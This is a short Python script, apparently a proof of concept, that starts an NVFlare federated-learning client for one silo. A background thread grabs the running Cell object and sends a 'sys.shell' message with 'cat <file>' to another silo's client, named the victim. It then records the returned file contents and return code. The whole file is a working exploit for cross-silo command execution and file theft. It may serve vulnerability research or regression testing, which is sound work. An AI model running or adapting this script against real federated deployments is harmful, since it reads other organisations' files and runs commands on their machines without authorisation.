"""A silo's FLARE client that asks another silo's for a file: ``… KIT NAME VICTIM FILE ANSWERS``."""

from __future__ import annotations

import gc
import runpy
import sys
import threading
import time
from pathlib import Path

import nvflare.fuel.utils.log_utils  # noqa: F401 - before two threads import it at once

kit, name, victim, wanted, answers = sys.argv[1:]


def ask() -> None:
    from nvflare.fuel.f3.cellnet.cell import Cell
    from nvflare.private.admin_defs import Message
    from nvflare.private.defs import CellChannel, new_cell_message

    for _ in range(60):
        time.sleep(1)
        cells = [found for found in gc.get_objects() if isinstance(found, Cell)]
        if not cells:
            continue
        try:
            reply = cells[0].send_request(
                channel=CellChannel.CLIENT_MAIN,
                topic="sys.shell",
                target=victim,
                request=new_cell_message({}, Message("sys.shell", f"cat {wanted}")),
                timeout=5,
            )
        except RuntimeError:  # not connected yet
            continue
        body = getattr(reply.payload, "body", reply.payload)
        with Path(answers).open("a") as file:
            file.write(f"{reply.get_header('cn__return_code')} {body!r}\n")


threading.Thread(target=ask, daemon=True).start()
module = "nvflare.private.fed.app.client.client_train"
sys.argv = [module, "-m", kit, "-s", "fed_client.json", "--set", "secure_train=true"]
sys.argv += [f"uid={name}", f"org={name.replace('-', '_')}", "config_folder="]
runpy.run_module(module, run_name="__main__", alter_sys=True)
